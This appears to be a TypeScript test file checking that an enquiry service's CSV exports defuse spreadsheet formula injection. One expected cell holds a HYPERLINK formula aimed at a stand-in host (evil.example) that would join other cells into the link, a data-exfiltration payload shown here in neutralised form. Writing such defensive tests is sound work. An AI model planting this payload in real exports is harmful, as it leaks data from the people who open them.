/**
 * The CSV exports (the inbox's, over HTTP, and `enquiries export`), on each engine, with a formula a
 * visitor could send in every field they fill: read as a spreadsheet in any locale would read them
 * (split on `,`, `;` or a tab, even ignoring the quotes), no cell starts a formula; every cell is
 * quoted; read properly, each holds what the visitor sent, with only apostrophes added.
 */
import { runEnquiriesCli } from "../../src/site-service/enquiries/cli/cli";
import { ENQUIRY_FIELD_NAMES } from "../../src/enquiry-contract/enquiry-fields";
import { formulaSegments, HOSTILE_VALUES, parseCsv } from "./support/csv-check";
import { ENGINES, engineUnderTest } from "./support/engines";
import { serviceUnderTest } from "./support/service-under-test";
import { client, enquiry, invited, NOW } from "./support/inbox-client";

/** A cell or a value without apostrophes: what the export adds is only that. */
const unquoted = (cell: string) => cell.replace(/'/g, "");

describe.each(ENGINES)("on %s", (name) => {
  const engine = engineUnderTest(name);
  const start = serviceUnderTest(engine);

  test("hostile values in every field a visitor fills: no formula in any locale's split, every cell quoted, nothing lost", async () => {
    const { service, env, port } = await start();
    const call = client(port);
    const { store } = service.receiver;
    const values = HOSTILE_VALUES;
    // Each enquiry holds one hostile value in every field, so each value is tried in each column.
    for (const [n, value] of values.entries()) {
      const fields = Object.fromEntries(ENQUIRY_FIELD_NAMES.map((field) => [field, value]));
      const e = enquiry(n + 1, fields);
      await store.add(e, { key: e.id, since: e.receivedAt, ignoreFailed: false }, []);
    }
    const ana = await invited(call, env, "ana@cyrus.example", "Ana Lima");

    const inbox = await call("GET", "/inbox/api/export.csv", { cookie: ana.cookie });
    expect(inbox.status).toBe(200);
    const out: string[] = [];
    const io = { out: (l: string) => out.push(l), err: () => undefined };
    expect(await runEnquiriesCli(["export"], env, io, () => NOW)).toBe(0);
    const cli = `${out.join("\r\n")}\r\n`;

    for (const csv of [inbox.text, cli]) {
      expect(formulaSegments(csv)).toEqual([]);
      const { rows, allQuoted } = parseCsv(csv);
      expect(allQuoted).toBe(true);
      const header = rows[0]!;
      expect(rows).toHaveLength(values.length + 1);
      for (const row of rows.slice(1)) {
        const value = (field: string) => row[header.indexOf(field)]!;
        const n = Number(value("id").replace("enq-", "")) - 1;
        for (const field of ENQUIRY_FIELD_NAMES)
          expect([field, unquoted(value(field))]).toEqual([field, unquoted(values[n]!)]);
      }
    }
    // Staff read it: the apostrophe goes only where a formula would start.
    const { rows } = parseCsv(inbox.text);
    expect(rows.flat()).toContain("x;https://evil.example/?;'=HYPERLINK(B2&A3&A4&A5);");
    expect(rows.flat()).toContain("line one\n'=1+1\r\n'- a list\n  '@mention");
    expect(rows.flat()).toContain("'+1 (555) 0100");
    expect(rows[0]).toContain("receivedAt");
  });
});
